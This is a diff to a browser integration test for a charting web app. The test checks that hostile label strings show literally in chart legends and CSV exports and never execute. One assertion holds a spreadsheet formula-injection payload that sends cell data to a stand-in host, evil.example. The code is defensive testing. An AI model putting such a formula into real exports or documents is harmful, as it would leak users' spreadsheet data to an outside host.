@@ -89,12 +89,16 @@ class HostileStringsIT extends BrowserTestBase {
         assertThat(csp).as("CSP violations on " + where).isEmpty();
     }
 
-    /** Every label shows as its own characters in a legend, and no legend holds an element. */
-    private static void assertLegendsShowLiterally(Page p, List<String> labels, String where) {
-        // a chart draws its points (and ApexCharts its legend) once it has been on screen
+    /**
+     * Shows every chart (each draws its points and ApexCharts its legend once it has been on
+     * screen), counts what ran, then checks that every label shows as its own characters in a
+     * legend and that no legend holds an element.
+     */
+    private void assertLegendsShowLiterally(Page p, List<String> labels, String where) {
         p.evaluate("async () => { for (const c of document.querySelectorAll('lr-chart')) {"
                 + " c.scrollIntoView(); await new Promise(r => setTimeout(r, 300)); } }");
         p.waitForFunction("() => document.querySelectorAll('.apexcharts-legend-text').length > 0");
+        assertNothingRan(p, where);
         @SuppressWarnings("unchecked")
         List<String> legend = (List<String>) p.evaluate(
                 "() => [...document.querySelectorAll('.apexcharts-legend-text')].map(e => e.textContent)");
@@ -124,12 +128,10 @@ class HostileStringsIT extends BrowserTestBase {
             page.mouse().move(page.locator("#chart-loss .apexcharts-svg").boundingBox().x + 200,
                     page.locator("#chart-loss .apexcharts-svg").boundingBox().y + 100);
             assertLegendsShowLiterally(page, labels, "/l/" + id);
-            assertNothingRan(page, "/l/" + id);
             String csv = (String) page.evaluate("() => document.querySelector('#chart-loss').csv()");
             if (labels.contains(HOSTILE.get(6))) {
                 // the chart's own CSV: a formula label is text in a spreadsheet
-                assertThat(csv.lines().findFirst().orElseThrow())
-                        .contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\") (loss)\"");
+                assertThat(csv).contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")");
             }
 
             // the embed plays by itself: no click needed for a payload to run
@@ -137,20 +139,17 @@ class HostileStringsIT extends BrowserTestBase {
             page.waitForFunction("() => document.querySelector('#landscape') && "
                     + "document.querySelector('#landscape').pointCount(0) === 21");
             assertLegendsShowLiterally(page, labels, "/embed/l/" + id);
-            assertNothingRan(page, "/embed/l/" + id);
 
             // the ?s= link after Run
             PlaygroundPage shared = new PlaygroundPage(page).open(url("/playground?s=" + code));
             shared.runToEnd();
             assertLegendsShowLiterally(page, labels, "/playground?s=");
-            assertNothingRan(page, "/playground?s=");
 
             // Compare: the experiment and its copy, overlay charts naming panel and run
             ComparePage compare = new ComparePage(page).open(url("/compare?s=" + code));
             compare.run();
             compare.waitForPoints(2, 21);
             assertLegendsShowLiterally(page, labels, "/compare");
-            assertNothingRan(page, "/compare");
         }
         assertThat(totalHits).isZero();
     }
@@ -179,7 +178,6 @@ class HostileStringsIT extends BrowserTestBase {
             teacher.click("#pace-start"); // the seat's run plays: its charts draw their legends
             seatPage.waitForFunction("() => document.querySelector('#seat-phase').dataset.phase === 'running'");
             assertLegendsShowLiterally(seatPage, List.copyOf(HOSTILE.subList(0, 5)), "the seat");
-            assertNothingRan(seatPage, "the seat");
 
             // the dashboard's gallery names the seat with the characters typed
             page.waitForFunction("n => [...document.querySelectorAll('#gallery .lr-gallery-name')]"
